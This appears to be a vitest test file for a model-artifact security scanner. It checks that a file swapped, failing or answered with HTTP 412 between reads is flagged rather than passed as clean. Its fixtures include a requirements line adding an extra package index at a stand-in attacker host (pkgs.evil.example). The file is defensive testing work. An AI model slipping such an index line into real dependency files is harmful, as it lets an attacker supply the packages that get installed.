// What repository analyzers read through `RepoContext.openFile` is what the file pass analysed:
// a root that serves other bytes (or fails) the second time a file is opened makes the file
// `scan/file-changed` / `scan/read-error`, never makes a repository finding disappear. Stand-in
// roots in memory; one S3 stand-in behind a proxy that answers the second HEAD with 412.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, request } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { BufferSource, type ByteSource } from "../../src/core/byte-source.js";
import { ModelgateError } from "../../src/core/errors.js";
import type { RootEntry, ScanRoot, Target } from "../../src/core/root.js";
import type { ScanReport } from "../../src/report/schema.js";
import { scan, scanRoot } from "../../src/scan/engine.js";
import { REREAD_VERIFIED_BYTES } from "../../src/scan/reread.js";
import { FileChangedError } from "../../src/sources/file.js";
import { S3Standin } from "../helpers/s3-standin.js";
import { SAMPLES } from "../helpers/scan.js";

const text = (s: string) => new TextEncoder().encode(s);
const MLFLOW = join(SAMPLES, "mlflow", "benign", "sklearn_model");
const MLMODEL = readFileSync(join(MLFLOW, "MLmodel"));
/** Over the 64 KiB the file pass keeps in memory: the repository analyzer opens it again. */
const PAD = "# padding\n".repeat(7000);
const EVIL_REQ = text(`mlflow==2.12.1\n--extra-index-url https://pkgs.evil.example/simple\n${PAD}`);
/** Same size, no remote requirement. */
const BENIGN_REQ = text(`mlflow==2.12.1\n#${"-".repeat(EVIL_REQ.length - 17 - PAD.length)}\n${PAD}`);

/** What the second (and later) open of a path does. */
type Reopen =
  | { kind: "bytes"; content: Uint8Array }
  | { kind: "throw"; error: () => Error }
  | { kind: "failing-read"; error: () => Error };

/** A remote-like root over files in memory whose second open of `path` misbehaves. */
class TwoFacedRoot implements ScanRoot {
  readonly target: Target = { kind: "url", name: "stand-in" };
  readonly opens = new Map<string, number>();
  constructor(
    readonly files: Record<string, Uint8Array>,
    readonly reopen: Record<string, Reopen> = {},
  ) {}
  async *list(): AsyncIterable<RootEntry> {
    for (const [path, content] of Object.entries(this.files)) yield { path, size: content.length, kind: "file" };
  }
  async open(path: string): Promise<ByteSource> {
    const n = (this.opens.get(path) ?? 0) + 1;
    this.opens.set(path, n);
    const again = this.reopen[path];
    if (n > 1 && again?.kind === "throw") throw again.error();
    const content = n > 1 && again?.kind === "bytes" ? again.content : this.files[path];
    if (content === undefined) throw new ModelgateError("INVALID_ARGUMENT", `${path} is not listed`);
    if (n > 1 && again?.kind === "failing-read") {
      const error = again.error;
      return { size: content.length, read: () => Promise.reject(error()) };
    }
    return new BufferSource(content);
  }
}

const fileOf = (report: ScanReport, path: string) => {
  const f = report.files.find((x) => x.path === path);
  if (f === undefined) throw new Error(`${path} not in the report`);
  return f;
};
const rules = (report: ScanReport, path: string) => fileOf(report, path).findings.map((f) => f.ruleId);

const mlflowDir = (req: Uint8Array) => ({ MLmodel: new Uint8Array(MLMODEL), "requirements.txt": req });

describe("RepoContext.openFile hands out the bytes the file pass analysed", () => {
  it("control: the same bytes the second time: the MLflow requirement is reported", async () => {
    const root = new TwoFacedRoot(mlflowDir(EVIL_REQ));
    const report = await scanRoot(root, { signature: false });
    expect(rules(report, "requirements.txt")).toContain("mlflow/remote-requirement");
    expect(root.opens.get("requirements.txt")).toBe(2); // the repository analyzer did open it again
    expect(report.complete).toBe(true);
  });

  it("other bytes of the same size the second time: scan/file-changed, never clean", async () => {
    expect(BENIGN_REQ.length).toBe(EVIL_REQ.length);
    const root = new TwoFacedRoot(mlflowDir(EVIL_REQ), {
      "requirements.txt": { kind: "bytes", content: BENIGN_REQ },
    });
    const report = await scanRoot(root, { signature: false });
    const file = fileOf(report, "requirements.txt");
    expect(file.verdict).toBe("invalid");
    expect(rules(report, "requirements.txt")).toEqual(["scan/file-changed"]);
    expect(report.complete).toBe(false);
    expect(report.errors.some((e) => e.path === "requirements.txt")).toBe(true);
  });

  it("benign first, other bytes the second time: the analysed verdict is not replaced by the new bytes", async () => {
    const root = new TwoFacedRoot(mlflowDir(BENIGN_REQ), { "requirements.txt": { kind: "bytes", content: EVIL_REQ } });
    const report = await scanRoot(root, { signature: false });
    expect(rules(report, "requirements.txt")).toEqual(["scan/file-changed"]);
  });

  it.each([
    ["a network failure", () => new ModelgateError("NETWORK", "HTTP 503"), "scan/read-error"],
    [
      "a 412 (the object was replaced)",
      () => new FileChangedError("requirements.txt", "HTTP 412"),
      "scan/file-changed",
    ],
    ["a timeout", () => new ModelgateError("TIMEOUT", "time budget exceeded"), "scan/timeout"],
  ])("a second open that fails with %s is reported once on the file", async (_what, error, rule) => {
    const root = new TwoFacedRoot(mlflowDir(EVIL_REQ), { "requirements.txt": { kind: "throw", error } });
    const report = await scanRoot(root, { signature: false });
    expect(fileOf(report, "requirements.txt").verdict).toBe("invalid");
    expect(rules(report, "requirements.txt")).toEqual([rule]);
    expect(report.complete).toBe(false);
  });

  it("a TorchServe manifest whose second read fails is reported, not skipped", async () => {
    const manifest = text(
      `${JSON.stringify({
        runtime: "python",
        model: { modelName: "m", handler: "handler.py", serializedFile: "model.pt" },
        archiverVersion: "0.12.0",
      })}${" ".repeat(70_000)}`,
    );
    const files = { "MAR-INF/MANIFEST.json": manifest, "handler.py": text("x = 1\n") };
    const ok = await scanRoot(new TwoFacedRoot(files), { signature: false });
    expect(fileOf(ok, "MAR-INF/MANIFEST.json").facts?.["torchserve.archiveFormat"]).toBe("no-archive");
    const root = new TwoFacedRoot(files, {
      "MAR-INF/MANIFEST.json": { kind: "throw", error: () => new ModelgateError("IO", "EIO") },
    });
    const report = await scanRoot(root, { signature: false });
    expect(fileOf(report, "MAR-INF/MANIFEST.json").verdict).toBe("invalid");
    expect(rules(report, "MAR-INF/MANIFEST.json")).toContain("scan/read-error");
  });

  it("a licence file whose second read fails is reported, not skipped", async () => {
    const license = text(`Apache License\nVersion 2.0, January 2004\n${" \n".repeat(40_000)}`);
    const policy = { licenses: { flag: ["apache-2.0"] } };
    const ok = await scanRoot(new TwoFacedRoot({ LICENSE: license }), { signature: false, policy });
    expect(ok.files[0]?.facts?.license).toBeDefined();
    const root = new TwoFacedRoot(
      { LICENSE: license },
      { LICENSE: { kind: "throw", error: () => new ModelgateError("NETWORK", "reset") } },
    );
    const report = await scanRoot(root, { signature: false, policy });
    expect(fileOf(report, "LICENSE").verdict).toBe("invalid");
    expect(rules(report, "LICENSE")).toEqual(["scan/read-error"]);
  });

  it("a large remote file that cannot be checked is refused without a finding on it", async () => {
    const big = new Uint8Array(REREAD_VERIFIED_BYTES + 1).fill(0x20);
    big.set(text("MIT License\n"));
    const root = new TwoFacedRoot({ LICENSE: big });
    const report = await scanRoot(root, { signature: false });
    expect(root.opens.get("LICENSE")).toBe(1); // not even requested again
    expect(rules(report, "LICENSE").filter((r) => r.startsWith("scan/"))).toEqual([]);
  });
});

describe("repository analyzers report a failed read of what openFile handed out", () => {
  // Without a digest (hash: false) the engine cannot check the re-read: the source is the root's,
  // and a read of it that fails must still be reported by the analyzer.
  const manifest = text(
    `${JSON.stringify({ runtime: "python", model: { modelName: "m", handler: "handler.py" } })}${" ".repeat(70_000)}`,
  );
  const license = text(`MIT License\n${" \n".repeat(40_000)}`);
  it.each([
    ["mlflow", mlflowDir(EVIL_REQ), "requirements.txt"],
    ["torchserve", { "MAR-INF/MANIFEST.json": manifest, "handler.py": text("x = 1\n") }, "MAR-INF/MANIFEST.json"],
    ["license", { LICENSE: license }, "LICENSE"],
  ])("%s", async (_name, files: Record<string, Uint8Array>, path) => {
    const root = new TwoFacedRoot(files, {
      [path]: { kind: "failing-read", error: () => new ModelgateError("NETWORK", "connection reset") },
    });
    const report = await scanRoot(root, { signature: false, hash: false });
    expect(fileOf(report, path).verdict).toBe("invalid");
    expect(rules(report, path)).toContain("scan/read-error");
    expect(report.complete).toBe(false);
  });

  it("an MLflow requirements file too large to read is reported, not skipped", async () => {
    const huge = text(`--extra-index-url https://pkgs.evil.example/simple\n${"# pad\n".repeat(200_000)}`);
    const report = await scanRoot(new TwoFacedRoot(mlflowDir(huge)), { signature: false });
    expect(fileOf(report, "requirements.txt").verdict).toBe("invalid");
    expect(rules(report, "requirements.txt")).toContain("scan/budget-exceeded");
  });
});

describe("a local file rewritten in place (same size) after the file pass", () => {
  it("is scan/file-changed for the repository analysis, not read as its new bytes", async () => {
    const dir = mkdtempSync(join(tmpdir(), "modelgate-reread-"));
    try {
      writeFileSync(join(dir, "MLmodel"), MLMODEL);
      writeFileSync(join(dir, "requirements.txt"), EVIL_REQ);
      const report = await scan(dir, {
        signature: false,
        onProgress: (p) => {
          if (p.phase === "done" && p.path === "requirements.txt")
            writeFileSync(join(dir, "requirements.txt"), BENIGN_REQ);
        },
      });
      expect(fileOf(report, "requirements.txt").verdict).toBe("invalid");
      expect(rules(report, "requirements.txt")).toEqual(["scan/file-changed"]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("an S3 store that answers the repository analysis' second HEAD with 412", () => {
  const closers: Array<() => Promise<void>> = [];
  afterEach(async () => {
    for (const close of closers.splice(0)) await close();
  });

  it("makes requirements.txt scan/file-changed instead of dropping mlflow/remote-requirement", async () => {
    const s3 = await S3Standin.start("models", {
      "m/MLmodel": { content: new Uint8Array(MLMODEL) },
      "m/requirements.txt": { content: EVIL_REQ },
    });
    closers.push(() => s3.close());
    const mode = { attack: false, heads: 0 };
    const proxy = createServer((req, res) => {
      if (req.url?.includes("requirements.txt") && req.method === "HEAD" && ++mode.heads >= 2 && mode.attack) {
        res.writeHead(412).end();
        return;
      }
      const up = request(`${s3.endpoint}${req.url}`, { method: req.method, headers: req.headers }, (r) => {
        res.writeHead(r.statusCode ?? 502, r.headers);
        r.pipe(res);
      });
      req.pipe(up);
    });
    await new Promise<void>((r) => proxy.listen(0, "127.0.0.1", () => r()));
    closers.push(() => new Promise<void>((r) => proxy.close(() => r())));
    const endpoint = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    const run = () =>
      scan(
        {
          s3: {
            bucket: "models",
            prefix: "m/",
            pathStyle: true,
            region: "us-east-1",
            credentials: { accessKeyId: "AKIDEXAMPLE", secretAccessKey: "example" },
            env: { AWS_ENDPOINT_URL_S3: endpoint },
            verify: "full",
          },
        },
        { signature: false },
      );
    const control = await run();
    expect(rules(control, "requirements.txt")).toContain("mlflow/remote-requirement");
    mode.attack = true;
    mode.heads = 0;
    const attack = await run();
    expect(attack.verdict).not.toBe("clean");
    expect(fileOf(attack, "requirements.txt").verdict).toBe("invalid");
    expect(rules(attack, "requirements.txt")).toEqual(["scan/file-changed"]);
    expect(attack.complete).toBe(false);
  });
});
